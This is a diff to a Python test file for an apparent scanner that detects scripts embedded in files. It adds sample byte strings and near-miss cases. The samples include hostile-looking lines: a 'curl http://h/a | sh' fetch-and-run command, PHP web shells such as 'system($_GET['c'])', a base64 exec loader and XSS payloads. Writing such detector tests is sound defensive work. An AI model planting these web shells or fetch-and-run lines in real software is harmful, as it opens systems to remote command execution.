@@ -397,12 +397,22 @@ SAMPLES = {
                           "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "batch script"),
     "vbs": Sample("windows_script", lambda: b'CreateObject("WScript.Shell").Run "calc"',
                   "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "Windows Script Host script"),
-    "html": Sample("html_script", lambda: b'<html><script language="VBScript">x</script>',
+    "html": Sample("html_script", lambda: b"<html><script>GetObject('script:a')</script>",
                    "POLY-HTML", "EMB-SCRIPT", "HTML with script"),
     "html-words": Sample("html_script", lambda: b"<b><script>alert(1)</script>",
                          "POLY-HTML", "EMB-SCRIPT", "HTML with script"),
     "hta": Sample("html_script", lambda: b"<HTA:APPLICATION id=a>", "POLY-HTML",
                   "EMB-SCRIPT", "HTML with script"),
+    "python": Sample("python", lambda: b"import os\nos.system('id')\n", "POLY-SCRIPT-NOSHEBANG",
+                     "EMB-SCRIPT", "Python script"),
+    "python-loader": Sample("python", lambda: b"exec(base64.b64decode('aWQ='))",
+                            "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "Python script"),
+    "perl": Sample("perl", lambda: b"use strict;\nsystem('id');\n", "POLY-SCRIPT-NOSHEBANG",
+                   "EMB-SCRIPT", "Perl script"),
+    "node": Sample("node", lambda: b"require('child_process').exec('id')",
+                   "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "JavaScript for Node.js"),
+    "shell-one-liner": Sample("shell", lambda: b"python3 -c 'print(1)'", "POLY-SCRIPT-NOSHEBANG",
+                              "EMB-SCRIPT", "shell script"),
     "php": Sample("php", lambda: b"<?php system($_GET['c']); ?>", "POLY-SCRIPT-NOSHEBANG",
                   "EMB-SCRIPT", "PHP script"),
     "shell": Sample("shell", lambda: b"curl http://h/a | sh\n", "POLY-SCRIPT-NOSHEBANG",
@@ -425,7 +435,7 @@ SPELLINGS = {
     "html_script": (
         b"<script/src=//h/a.js></script>", b'<script>import("//h/a.js")</script>',
         b"<img src=x onerror=alert(1)>", b"<svg/onload = 'alert(1)'>", b"<script/>eval(a)",
-        b'<script type="module">', b"<a onmouseover=javascript:a>",
+        b"<a onmouseover=javascript:a>",
     ),
     "php": (b"<?=`$_GET[0]`?>", b"<?=system('id')?>", b"<? @eval($_POST[0]);", b"<?=$_GET[0]?>"),
     "shell": (
@@ -840,6 +850,20 @@ NEAR_MISSES: dict[str, tuple[str, bytes]] = {
     "powershell: mentioned": ("powershell", b"Please run powershell - then call IT"),
     "powershell: a request alone": ("powershell", b"see iwr -useb in the manual | index"),
     "powershell: one word twice": ("powershell", b"DownloadString( DownloadFile("),
+    "powershell: told of": ("powershell", b"user ran powershell -File import.ps1 and it failed"),
+    "batch: told of": ("batch", b"C:\\temp %TEMP%\\scan.log path; run cmd /c dir to list"),
+    "shell: exercises": ("shell", b"uses curl -up exercises; base64 -data; chmod 755 n/a"),
+    "shell: a manual": ("shell", b"wget -q http://server/protocol | see also sh shell"),
+    "html: quoted": ("html_script", b"Discussion of <script> tags; see document.write( ) there"),
+    "html: a library": (
+        "html_script", b'<html><script src="https://cdn.jsdelivr.net/npm/a.js"></script>',
+    ),
+    "python: one word": ("python", b"import os; the eval( of it"[:10] + b"thing"),
+    "python: prose": ("python", b"data from os x; import requests by fax"),
+    "perl: prose": ("perl", b"the system 'A' will use strict isolation"[:16]),
+    "node: another module": ("node", b"require('child_process"),
+    "shebang: told of": ("shebang", b"it begins with #!/bin/sh\nand goes on"),
+    "shebang: nothing behind": ("shebang", b"\xff#!/bin/sh\n\xff\xff"),
     "batch: a tool's name": ("batch", b"certutil is not installed"),
     "batch: one word": ("batch", b"path is %TEMP%\\export"),
     "vbs: one word": ("windows_script", b"CreateObject failed"),
@@ -885,7 +909,7 @@ def test_honest_bytes_stay_silent(data: bytes) -> None:
 
 
 def test_two_words_in_different_values_are_no_script() -> None:
-    one, other = b"see %TEMP%\\export", b"cmd.exe /c dir"
+    one, other = b"set a=%TEMP%\\export", b"\r\ncmd.exe /c dir"
     assert findings(one + other, 0, len(one)) == []
     assert {hit.id for hit in findings(one + other)} == {"POLY-SCRIPT-NOSHEBANG"}
 
